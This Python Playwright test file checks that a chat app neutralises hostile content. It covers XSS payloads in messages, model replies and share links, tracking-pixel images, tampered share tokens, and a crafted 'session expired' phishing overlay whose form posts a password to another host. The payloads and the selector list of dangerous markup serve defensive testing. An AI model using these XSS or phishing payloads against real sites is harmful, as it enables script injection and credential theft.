"""Hostile content in a real Chromium (Playwright): HTML and script in a user's message, in a
model's reply (a model can be talked into writing anything) and in share links never run
in the page; tampered and oversized share links get a message, not a broken page.

The app runs for real against a protocol-level fake Ollama whose model "fake-html" replies
with script payloads, streamed in small pieces like tokens (testkit's FixedReplyOllama).
"""

from __future__ import annotations

import base64
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Literal

import pytest
from playwright.sync_api import Browser, Page, expect

from devtools.testkit.browser import answered_by_app
from devtools.testkit.chat_app import running_app
from devtools.testkit.fake_ollama import FixedReplyOllama

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

# Each payload sets window.__pwned if it ever runs.
PAYLOADS = [
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<script>window.__pwned='script'</script>",
    "<svg onload=\"window.__pwned='svg'\"><circle r=5></circle></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    '<a href="javascript:window.__pwned=\'link\'" id="evil-link">click me</a>',
    "[markdown link](javascript:window.__pwned='md')",
    "<details open ontoggle=\"window.__pwned='details'\">x</details>",
]
HOSTILE = " ".join(PAYLOADS)
# Elements or attributes that would run script if they reached the page.
DANGEROUS = (
    "script, iframe, object, embed, [onerror], [onload], [ontoggle], [onclick], "
    "a[href^='javascript'], [src^='javascript'], [srcdoc]"
)
SHARE_SECRET = "hostile-browser-test-secret-0123456789"
MODEL_LABEL = "fake-html — Other"


class Tracker:
    """Another origin that records every request: a remote image in a message or reply
    must never make the browser call it (that is how a chat leaks to an attacker)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                tracker.paths.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/gif")
                self.send_header("content-length", str(len(GIF)))
                self.end_headers()
                self.wfile.write(GIF)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def images(self, name: str) -> str:
        """An HTML and a Markdown image pointing here."""
        return f'<img src="{self.url}/{name}-html.gif"> ![pixel]({self.url}/{name}-md.gif)'

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


GIF = base64.b64decode(
    "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
)  # a 1x1 pixel


@pytest.fixture(scope="module")
def tracker() -> Iterator[Tracker]:
    server = Tracker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def app_url(tracker: Tracker) -> Iterator[str]:
    with (
        FixedReplyOllama(HOSTILE + " " + tracker.images("reply")) as fake,
        running_app(
            backend_url=fake.url,
            allowed_models=["fake-html"],
            rate_limit_per_minute=1000,
            share_secret=SHARE_SECRET,
        ) as url,
    ):
        yield url


def new_page(browser: Browser) -> Page:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.on("dialog", lambda dialog: dialog.dismiss())  # an alert() would be a finding too
    return page


def settle(page: Page) -> None:
    """Wait for observable events after which whatever content started has happened: every
    image in the page has loaded or failed (a remote one would have reached the tracker),
    and a request to this app, sent after the clicks and renders, is answered."""
    page.wait_for_function("() => Array.from(document.images).every(i => i.complete)")
    answered_by_app(page)


def assert_nothing_ran(page: Page, scope: str) -> None:
    assert page.evaluate("() => window.__pwned") is None, "a payload ran"
    found = page.evaluate(
        "([scope, sel]) => Array.from(document.querySelectorAll(scope)).flatMap("
        "  root => Array.from(root.querySelectorAll(sel)).map(e => e.outerHTML.slice(0, 120)))",
        [scope, DANGEROUS],
    )
    assert found == [], f"dangerous markup in the page: {found}"


def test_markup_in_messages_and_replies_never_runs(
    app_url: str, browser: Browser, tracker: Tracker
) -> None:
    page = new_page(browser)
    try:
        page.goto(app_url)
        expect(page.locator("#model input")).to_have_value(MODEL_LABEL, timeout=30_000)
        page.locator("#message textarea").fill(HOSTILE + " " + tracker.images("message"))
        page.locator("#send").click()
        expect(page.locator("#chatbot .thought .title")).to_have_count(1, timeout=30_000)
        user = page.locator('#chatbot [data-testid="user"]').first
        bot = page.locator('#chatbot div.message:not(.thought) > [data-testid="bot"]').first
        # The harmless words of the payloads are shown; the markup is not live.
        expect(user).to_contain_text("click me")
        expect(bot).to_contain_text("click me")
        assert_nothing_ran(page, "#chatbot")
        # Clicking what looks like a link runs nothing either.
        for link in page.locator("#chatbot a").all():
            link.click(modifiers=["Control"], timeout=5_000, no_wait_after=True)
        settle(page)
        assert_nothing_ran(page, "#chatbot")
        # The banner shows markup as text (it is built by the app, escaped).
        page.locator("#message textarea").fill("x" * 9000 + HOSTILE)
        page.locator("#send").click()
        expect(page.locator("#chat-banner")).to_contain_text("characters long")
        assert_nothing_ran(page, ".gradio-container")

        # Share the conversation; open the link in a fresh page: still nothing runs.
        page.locator("#chat-share").click()
        link_box = page.locator("#chat-share-link textarea, #chat-share-link input").first
        expect(link_box).to_have_value(re.compile(r".*\?share=.*"), timeout=15_000)
        link = link_box.input_value()
    finally:
        page.close()
    shared = new_page(browser)
    try:
        shared.goto(link)
        expect(shared.locator("#shared-chat-1")).to_contain_text("click me", timeout=30_000)
        settle(shared)
        assert_nothing_ran(shared, ".gradio-container")
    finally:
        shared.close()
    # Neither the message's nor the reply's remote images were fetched, in the chat or in
    # the shared view.
    assert tracker.paths == []


@pytest.mark.parametrize(
    ("token", "words"),
    [
        ("AQ" + "A" * 200, "invalid or was changed"),
        ("<script>window.__pwned='token'</script>", "characters a share link never has"),
        ("Zm9v" * 3000, "share link"),  # 12 000 characters: beyond any link the app makes
    ],
)
def test_tampered_and_oversized_share_links_show_a_message(
    app_url: str, browser: Browser, token: str, words: str
) -> None:
    page = new_page(browser)
    try:
        response = page.goto(f"{app_url}/?share={token}")
        assert response is not None and response.status == 200
        notice = page.locator("#share-notice")
        expect(notice).to_contain_text(words, timeout=30_000)
        assert_nothing_ran(page, ".gradio-container")
        # The rest of the app still works from that page.
        expect(page.locator("#model input")).to_have_value(MODEL_LABEL)
    finally:
        page.close()


# A phishing page in a share link: a full-window fixed overlay saying the session expired,
# with a password box and a button posting to another host (the tracker).
def overlay_html(action: str) -> str:
    return (
        '<div id="evil-overlay" style="position:fixed;inset:0;z-index:99999;'
        'background:#fff;font-size:32px">Session expired. Sign in again.'
        f'<form id="evil-form" action="{action}/steal" method="post">'
        '<input id="evil-password" type="password" name="pw" autofocus>'
        '<button id="evil-button" type="submit">Sign in</button></form>'
        "<style>body{display:none}</style>"
        '<a id="evil-fixed-link" style="position:fixed;top:0;left:0;width:100vw;height:100vh"'
        ' href="#">Session expired</a></div>'
    )


# Markup that content can never bring into the page, and the page areas content reaches.
# (Gradio's own copy buttons in a message are `button.icon-button`.)
FORM_LIKE = (
    "form, input, button:not(.icon-button), textarea, select, style:not(svg style), iframe, "
    "object, embed, #evil-overlay, #evil-form, #evil-password, #evil-button"
)
CONTENT_AREAS = (
    '#shared-columns [data-testid="bot"], #shared-columns [data-testid="user"], '
    "#shared-summary, #shared-head-1, #shared-head-2"
)


def crafted_share(action: str, kind: Literal["chat", "compare"]) -> str:
    """A chat or comparison link whose every text field is hostile (messages, replies, model
    names, system prompt; the other parameters are numbers, checked as such when a link is
    read: tests/test_share.py), signed with the app's secret as /share_chat would sign
    whatever a client sends."""
    from ui.share.format import (
        SharedColumn,
        SharedConversation,
        SharedMessage,
        ShareParameters,
        encode_share,
    )
    from ui.turn.figures import ReplyFigures

    hostile = HOSTILE + overlay_html(action)
    messages = [
        SharedMessage(role="user", content="hello " + hostile),
        SharedMessage(
            role="assistant",
            content="reply " + hostile,
            stats=ReplyFigures(ttft_s=0.1, total_s=1, tokens_per_s=10, eval_count=10),
        ),
    ]
    names = [overlay_html(action)[:190]]  # the chat's model: its summary names it
    if kind == "compare":
        names.insert(0, PAYLOADS[0] + "<b>m1</b>")
    return encode_share(
        SharedConversation(
            kind=kind,
            columns=[
                SharedColumn(model=name, display_name=name, messages=messages) for name in names
            ],
            parameters=ShareParameters(
                system_prompt="sys " + hostile, temperature=0.5, top_p=0.9, max_tokens=64
            ),
        ),
        SHARE_SECRET.encode(),
    )


@pytest.mark.parametrize("kind", ["chat", "compare"])
def test_a_crafted_overlay_share_link_renders_inert(
    app_url: str, browser: Browser, tracker: Tracker, kind: Literal["chat", "compare"]
) -> None:
    page = new_page(browser)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(f"{app_url}/?share={crafted_share(tracker.url, kind)}")
        columns = page.locator("#shared-columns")
        expect(columns).to_contain_text("Session expired", timeout=30_000)
        expect(page.locator("#shared-summary")).to_contain_text("supplied by whoever shared")
        # The overlay's markup is shown as text, not laid out as elements.
        expect(page.locator("#shared-chat-1")).to_contain_text("<form")
        found = page.evaluate(
            "([areas, sel]) => Array.from(document.querySelectorAll(areas)).flatMap("
            "  root => Array.from(root.querySelectorAll(sel)).map(e => e.outerHTML.slice(0, 120)))",
            [CONTENT_AREAS, FORM_LIKE],
        )
        assert found == [], f"form-like markup from content in the page: {found}"
        fixed = page.evaluate(
            "(areas) => Array.from(document.querySelectorAll(areas)).flatMap(root =>"
            "  Array.from(root.querySelectorAll('*')).filter(e =>"
            "    getComputedStyle(e).position === 'fixed').map(e => e.outerHTML.slice(0, 120)))",
            CONTENT_AREAS,
        )
        assert fixed == [], f"fixed-position elements from content: {fixed}"
        assert_nothing_ran(page, ".gradio-container")
        # A user typing a password and pressing Enter / clicking the page's middle sends
        # nothing anywhere else.
        page.mouse.click(640, 450)
        page.keyboard.type("hunter2")
        page.keyboard.press("Enter")
        # The app's own page still works (the body was not hidden by content CSS).
        expect(page.locator("#shared-continue")).to_be_visible()
        settle(page)  # before the negative check below
    finally:
        page.close()
    elsewhere = [u for u in requests if not u.startswith(app_url)]
    assert elsewhere == [] and tracker.paths == [], (elsewhere, tracker.paths)
